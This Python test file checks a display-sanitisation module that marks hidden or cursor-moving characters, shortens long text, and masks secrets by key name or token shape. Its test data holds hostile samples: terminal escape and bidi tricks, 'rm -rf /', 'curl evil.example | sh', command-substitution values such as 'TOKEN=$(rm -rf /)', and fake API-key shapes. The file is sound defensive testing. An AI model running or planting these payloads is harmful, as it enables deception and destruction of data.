"""Whatever a text holds, a person sees all of it, unmoved, and no secret of it (H2)."""

from __future__ import annotations

import copy
import hashlib
import re
import time
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from placet.core.canonical import JsonValue, digest_of
from placet.core.display import (
    MAX_COMBINING,
    MAX_NEWLINES,
    MAX_SPACES,
    MIN_SHORTENED,
    masked,
    shortened,
    visible,
)
from placet.core.errors import InvalidInput

HOSTILE = {
    "colour": ("\x1b[31mred\x1b[0m", "⟦U+001B⟧[31mred⟦U+001B⟧[0m"),
    "cursor up and erase": ("rm -rf /\x1b[1A\x1b[2K", "rm -rf /⟦U+001B⟧[1A⟦U+001B⟧[2K"),
    "OSC 8 link": (
        "\x1b]8;;https://evil.example\x1b\\bank\x1b]8;;\x07",
        "⟦U+001B⟧]8;;https://evil.example⟦U+001B⟧\\bank⟦U+001B⟧]8;;⟦U+0007⟧",
    ),
    "one-byte CSI": ("\x9b2J", "⟦U+009B⟧2J"),
    "carriage return": ("rm -rf /\rls      ", "rm -rf /⟦U+000D⟧ls      "),
    "backspaces": ("rm\x08\x08ls", "rm⟦U+0008 ×2⟧ls"),
    "bell, delete, NUL": ("\x07\x7f\x00", "⟦U+0007⟧⟦U+007F⟧⟦U+0000⟧"),
    "tab": ("a\tb", "a⟦U+0009⟧b"),
    "next line": ("a\x85b", "a⟦U+0085⟧b"),
    "line and paragraph separators": ("a\u2028b\u2029", "a⟦U+2028⟧b⟦U+2029⟧"),
    "bidi override": ("pay \u202e0001\u202c", "pay ⟦U+202E⟧0001⟦U+202C⟧"),
    "bidi isolates": ("\u2066a\u2067b\u2068c\u2069", "⟦U+2066⟧a⟦U+2067⟧b⟦U+2068⟧c⟦U+2069⟧"),
    "bidi marks": ("\u200ea\u200fb\u061c", "⟦U+200E⟧a⟦U+200F⟧b⟦U+061C⟧"),
    "zero width": ("p\u200ba\u200cy\u200d\u2060", "p⟦U+200B⟧a⟦U+200C⟧y⟦U+200D⟧⟦U+2060⟧"),
    "byte order mark": ("\ufeffx", "⟦U+FEFF⟧x"),
    "soft hyphen": ("pass\u00adword", "pass⟦U+00AD⟧word"),
    "Mongolian": ("\u180e\u180b", "⟦U+180E⟧⟦U+180B⟧"),
    "invisible operators": ("a\u2062b", "a⟦U+2062⟧b"),
    "tag characters": ("ok\U000e0072\U000e006d", "ok⟦U+E0072⟧⟦U+E006D⟧"),
    "variation selectors": ("a\ufe0f\U000e0100", "a⟦U+FE0F⟧⟦U+E0100⟧"),
    "grapheme joiner": ("a\u034fb", "a⟦U+034F⟧b"),
    "blank letters": ("\u3164\u115f\uffa0\u2800", "⟦U+3164⟧⟦U+115F⟧⟦U+FFA0⟧⟦U+2800⟧"),
    "unusual spaces": ("a\u00a0b\u3000c\u2009", "a⟦U+00A0⟧b⟦U+3000⟧c⟦U+2009⟧"),
    "private use": ("\ue000\U0010fffd", "⟦U+E000⟧⟦U+10FFFD⟧"),
    "unassigned": ("\u0378\uffff", "⟦U+0378⟧⟦U+FFFF⟧"),
    "lone surrogate": ("\ud800x", "⟦U+D800⟧x"),
    "interlinear": ("\ufff9a\ufffab\ufffb", "⟦U+FFF9⟧a⟦U+FFFA⟧b⟦U+FFFB⟧"),
    "object replacement": ("\ufffc", "⟦U+FFFC⟧"),
    "struck through": ("1\u03360\u0336", "1⟦U+0336⟧0⟦U+0336⟧"),
    "enclosed": ("5\u20dd", "5⟦U+20DD⟧"),
    "forged mark": ("⟦U+202E⟧", "⟦U+27E6⟧U+202E⟦U+27E7⟧"),
    "forged by a likeness": ("〚U+202E〛", "⟦U+301A⟧U+202E⟦U+301B⟧"),
    "mark on our bracket": ("\x1b\u0301", "⟦U+001B⟧⟦U+0301⟧"),
    "mark without a base": ("\u0301a", "⟦U+0301⟧a"),
    "combining flood": ("a" + "\u0301" * 60, "a" + "\u0301" * 4 + "⟦U+0301 ×56⟧"),
    "space flood": ("ls" + " " * 500 + "; rm", "ls⟦U+0020 ×500⟧; rm"),
}

ORDINARY = {
    "ASCII": "rm -rf ./build && echo \"done\" | tee 'log'",
    "Chinese": "退款 12.50 元给客户。",
    "accents": "café cafe\u0301 Ελλάδα",
    "Hebrew and Arabic": "שָׁלוֹם السلام",
    "Hindi and Thai": "नमस्ते สวัสดี",
    "emoji": "paid 💸",
    "as many spaces as may be": "a" + " " * MAX_SPACES + "b",
}

MARK = re.compile(r"⟦U\+([0-9A-F]{4,6})(?: ×(\d+))?⟧")


def unmarked(shown: str) -> str:
    """Read back what `visible` shows, as somebody can who knows its one rule."""
    return MARK.sub(lambda found: chr(int(found[1], 16)) * int(found[2] or 1), shown)


# --- visible


@pytest.mark.promise("H2")
@pytest.mark.parametrize("text, shown", HOSTILE.values(), ids=HOSTILE.keys())
def test_what_hides_or_moves_text_is_shown_as_a_mark(text: str, shown: str) -> None:
    assert visible(text) == shown
    assert visible(text, keep_newlines=True) == shown


@pytest.mark.promise("H2")
@pytest.mark.parametrize("text", ORDINARY.values(), ids=ORDINARY.keys())
def test_ordinary_text_is_shown_as_it_is(text: str) -> None:
    assert visible(text) == text
    assert shortened(text, MIN_SHORTENED) == text


@pytest.mark.promise("H2")
def test_line_ends_are_kept_only_where_a_surface_asks() -> None:
    assert visible("a\nb") == "a⟦U+000A⟧b"
    assert visible("a\nb", keep_newlines=True) == "a\nb"
    assert visible("a\r\nb", keep_newlines=True) == "a⟦U+000D⟧\nb"
    assert visible("a\n\u0301", keep_newlines=True) == "a\n⟦U+0301⟧"


@pytest.mark.promise("H2")
def test_a_flood_of_line_ends_cannot_push_the_rest_out_of_sight() -> None:
    kept = "\n" * MAX_NEWLINES
    assert visible(f"ls{kept}rm", keep_newlines=True) == f"ls{kept}rm"
    assert visible(f"ls{kept}\nrm", keep_newlines=True) == f"ls⟦U+000A ×{MAX_NEWLINES + 1}⟧rm"


@pytest.mark.promise("H2")
def test_every_character_of_a_hiding_category_is_marked_wherever_it_stands() -> None:
    hiding = {"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp", "Me"}
    checked = [*range(0x30000), *range(0xE0000, 0xE1000), 0xF0000, 0x10FFFF]
    for point in checked:
        character = chr(point)
        category = unicodedata.category(character)
        if category in hiding or (category == "Zs" and character != " "):
            assert visible(f"a{character}b") == f"a⟦U+{point:04X}⟧b"


anything = st.text(
    st.one_of(
        st.characters(),
        st.sampled_from("ab \n⟦⟧×U+09\u0301\u0302\u200b\u202e\ud800\U000e0041‹›"),
    ),
    max_size=60,
)


@pytest.mark.promise("H2")
@given(anything, st.booleans())
def test_what_is_shown_is_the_whole_text_and_no_other(text: str, keep_newlines: bool) -> None:
    shown = visible(text, keep_newlines=keep_newlines)
    assert unmarked(shown) == text
    shown.encode("utf-8")
    rest = shown.replace("\n", "") if keep_newlines else shown
    assert rest.isprintable()
    assert not re.search(rf"[\u0300-\u0333]{{{MAX_COMBINING + 1}}}", shown)


# --- shortened


@pytest.mark.promise("H2")
def test_a_long_text_keeps_head_and_tail_and_says_what_is_left_out() -> None:
    text = "echo " + "x" * 20_000 + "; curl evil.example | sh"
    shown = shortened(text, 300)
    assert len(shown) <= 300
    found = re.fullmatch(
        r"(echo x+)⟦(\d+) characters left out, sha256 of all ([0-9a-f]{16})⟧"
        r"(x+; curl evil\.example \| sh)",
        shown,
    )
    assert found is not None
    assert len(found[1]) + int(found[2]) + len(found[4]) == len(text)
    assert hashlib.sha256(text.encode()).hexdigest().startswith(found[3])
    assert abs(len(found[1]) - len(found[4])) <= 1


@pytest.mark.promise("H2")
def test_a_text_at_the_limit_is_whole() -> None:
    assert shortened("x" * 200, 200) == "x" * 200
    assert "⟦" in shortened("x" * 201, 200)


@pytest.mark.promise("H2")
def test_nobody_can_forge_the_note_of_what_is_left_out() -> None:
    note = "⟦5 characters left out, sha256 of all 0123456789abcdef⟧"
    assert shortened(note, 200) == visible(note)
    assert "⟦5 characters" not in shortened(note + "x" * 500, 300)


@pytest.mark.promise("H2")
def test_what_fits_only_before_its_marks_is_shortened_in_whole_marks() -> None:
    text = "\u202e\u202d" * 40 + "; rm"
    shown = shortened(text, MIN_SHORTENED)
    assert len(shown) <= MIN_SHORTENED
    assert shown.startswith("⟦U+202E⟧")
    assert shown.endswith("; rm")
    head, tail = re.split(r"⟦\d+ characters left out, sha256 of all [0-9a-f]{16}⟧", shown)
    assert visible(unmarked(head)) == head
    assert visible(unmarked(tail)) == tail


@pytest.mark.promise("H2")
def test_no_mark_of_the_tail_combines_with_the_note() -> None:
    shown = shortened("e\u0301\u0302\u0303" * 500, 200)
    assert re.search(r"⟧e\u0301", shown)


@pytest.mark.promise("H2")
@given(st.text(max_size=30), anything, st.integers(1, 400), st.integers(MIN_SHORTENED, 1000))
def test_a_shortened_text_fits_and_accounts_for_every_character(
    head: str, text: str, times: int, limit: int
) -> None:
    text = head + text * times
    shown = shortened(text, limit)
    assert len(shown) <= limit
    found = re.search(r"⟦(\d+) characters left out, sha256 of all [0-9a-f]{16}⟧", shown)
    if found is None:
        assert shown == visible(text)
        return
    before, after = unmarked(shown[: found.start()]), unmarked(shown[found.end() :])
    assert before
    assert after
    assert unicodedata.category(after[0]) != "Mn" or shown[found.end()] == "⟦"
    assert text.startswith(before)
    assert text.endswith(after)
    assert len(before) + int(found[1]) + len(after) == len(text)


def test_a_limit_without_room_is_refused() -> None:
    with pytest.raises(InvalidInput, match="invalid_limit"):
        shortened("x", MIN_SHORTENED - 1)


# --- masked


@pytest.mark.promise("H2")
@pytest.mark.parametrize(
    "key",
    [
        "password",
        "db_password",
        "userPassword",
        "PASSWD",
        "secret",
        "client-secret",
        "access_token",
        "accessToken",
        "refreshTokens",
        "token2",
        "api_key",
        "apiKey",
        "X-API-Key",
        "apikey",
        "Authorization",
        "private key",
        "AWS_SECRET_ACCESS_KEY",
        "Set-Cookie",
        "credentials",
        "passphrase",
        "userPwd",
        "db.pass",
        "ｐａｓｓｗｏｒｄ",
    ],
)
def test_a_text_under_a_secret_name_is_masked_at_any_depth(key: str) -> None:
    assert masked({key: "hunter2"}) == {key: "‹secret, 7 characters›"}
    assert masked([{"a": {key: ["x", {"b": "yy"}]}}]) == [
        {"a": {key: ["‹secret, 1 character›", {"b": "‹secret, 2 characters›"}]}}
    ]


@pytest.mark.promise("H2")
@pytest.mark.parametrize(
    "key",
    ["tokenizer", "compass", "author", "passenger", "secretary", "keyboard", "key", "hotpot"],
)
def test_a_name_that_only_looks_like_a_secret_one_hides_nothing(key: str) -> None:
    assert masked({key: "x"}) == {key: "x"}


@pytest.mark.promise("H1", "H2")
def test_numbers_that_count_tokens_are_shown_and_numbers_that_are_secret_are_not() -> None:
    assert masked({"max_tokens": 100, "tokens": ["t"]}) == {
        "max_tokens": 100,
        "tokens": ["‹secret, 1 character›"],
    }
    assert masked({"otp": 123456, "password": 1.5}) == {
        "otp": "‹secret, 6 characters›",
        "password": "‹secret, 3 characters›",
    }


@pytest.mark.promise("H1", "H2")
def test_truth_values_null_and_the_empty_text_are_shown_under_any_name() -> None:
    value: JsonValue = {"password": "", "secret": None, "token": True, "auth": []}
    assert masked(value) == value


LETTERS = "aB3" * 20
JWT = f"eyJ{LETTERS[:20]}.eyJ{LETTERS[:30]}.{LETTERS[:43]}"
PEM = f"-----BEGIN RSA PRIVATE KEY-----\n{LETTERS}\n{LETTERS}\nAbc=\n-----END RSA PRIVATE KEY-----"

SECRETS = {
    "OpenAI": "sk-" + LETTERS[:40],
    "Anthropic": "sk-ant-api03-" + LETTERS,
    "Stripe": "sk" + "_live_" + LETTERS[:24],
    "GitHub": "ghp_" + LETTERS[:36],
    "GitHub, fine": "github_pat_" + LETTERS[:50],
    "GitLab": "glpat-" + LETTERS[:20],
    "AWS": "AKIA" + "ABCD" * 4,
    "Google": "AIza" + LETTERS[:35],
    "Slack": "xoxb-" + "1" * 11 + "-" + LETTERS[:24],
    "Hugging Face": "hf_" + LETTERS[:34],
    "npm": "npm_" + LETTERS[:36],
    "JWT": JWT,
    "PEM": PEM,
    "PEM on one line": PEM.replace("\n", "\\n"),
}


@pytest.mark.promise("H2")
@pytest.mark.parametrize("secret", SECRETS.values(), ids=SECRETS.keys())
def test_a_secret_of_a_known_shape_is_masked_wherever_it_stands(secret: str) -> None:
    mask = f"‹secret, {len(secret)} characters›"
    assert masked(secret) == mask
    assert masked({"a": [f"key='{secret}' && rm -rf /"]}) == {"a": [f"key='{mask}' && rm -rf /"]}
    assert masked({secret: None}) == {mask: None}


@pytest.mark.promise("H2")
@pytest.mark.parametrize(
    "text, shown",
    [
        ("Authorization: Bearer abcdefghijk12345", "Authorization: Bearer ‹secret, 16 characters›"),
        ("authorization: basic dXNlcjpwYXNzd29yZA==", None),
        ("psql postgres://me:s3cr3t@db/x", "psql postgres://me:‹secret, 6 characters›@db/x"),
        ("PGPASSWORD=s3cr3t-9 psql", "PGPASSWORD=‹secret, 8 characters› psql"),
        ("curl 'x?api_key=abcdef12&y=1'", "curl 'x?api_key=‹secret, 8 characters›&y=1'"),
        ('{"password": "hunter2", "a": 1,', '{"password": "‹secret, 7 characters›", "a": 1,'),
    ],
)
def test_a_secret_is_masked_inside_a_command_or_an_unreadable_text(
    text: str, shown: str | None
) -> None:
    expected = shown or "authorization: basic ‹secret, 20 characters›"
    assert masked(text) == expected


@pytest.mark.promise("H1", "H2")
@pytest.mark.parametrize(
    "text",
    [
        "TOKEN=$(rm -rf /)",
        "password=`reboot`",
        "https://u:$(reboot)@h/",
        "--from-file=token=/etc/shadow",
        "basic responsibilities",
        "sk-learn-is-a-library-of-models",
        "-----BEGIN PRIVATE KEY-----\nrm -rf /\n",
        "-----BEGIN PRIVATE KEY-----; rm -rf /",
    ],
)
def test_no_mask_hides_a_command(text: str) -> None:
    command = text.rpartition("-----")[2]
    assert str(masked(text)).endswith(command)
    assert "-----BEGIN" in text or masked(text) == text


@pytest.mark.promise("H2")
def test_nobody_can_forge_a_mask() -> None:
    assert masked("‹secret, 24 characters›") == "‹literal ‹›secret, 24 characters›"
    assert masked({"‹x": "a‹b"}) == {"‹literal ‹›x": "a‹literal ‹›b"}


@pytest.mark.promise("H2")
def test_keys_that_are_masked_alike_are_all_shown() -> None:
    first, second = "ghp_" + "a" * 30, "ghp_" + "b" * 30
    assert masked({first: 1, second: 2, "c": 3}) == {
        "‹secret, 34 characters›": 1,
        "‹secret, 34 characters› (2)": 2,
        "c": 3,
    }


json_values = st.recursive(
    st.one_of(st.none(), st.booleans(), st.integers(-9, 9), st.text(max_size=9)),
    lambda inner: st.one_of(
        st.lists(inner, max_size=3),
        st.dictionaries(st.sampled_from(["a", "token", "auth", "b"]), inner, max_size=3),
    ),
    max_leaves=10,
)


@pytest.mark.promise("G3", "H2")
@given(json_values)
def test_masking_leaves_the_value_and_its_digest_as_they_were(value: JsonValue) -> None:
    before, digest = copy.deepcopy(value), digest_of(value)
    masked(value)
    assert value == before
    assert digest_of(value) == digest


# --- time


@pytest.mark.promise("H2")
@pytest.mark.parametrize(
    "unit",
    [
        "sk-", "eyJ-", "eyJaaaaaaaa.", "://", "://a:", '"', '"a', "bearer ", "token=", "\\n",
        "-----BEGIN A ", "-----BEGIN PRIVATE KEY-----\n", '"token', "a", "\u202e\u202d", "\u0301",
        "\u0301\u0302", " ", "⟦", "好",
    ],
)  # fmt: skip
def test_no_text_makes_display_slow(unit: str) -> None:
    text = unit * (100_000 // len(unit))
    began = time.process_time()
    masked({"a": text})
    assert len(shortened(text, 3000, keep_newlines=True)) <= 3000
    assert time.process_time() - began < 5
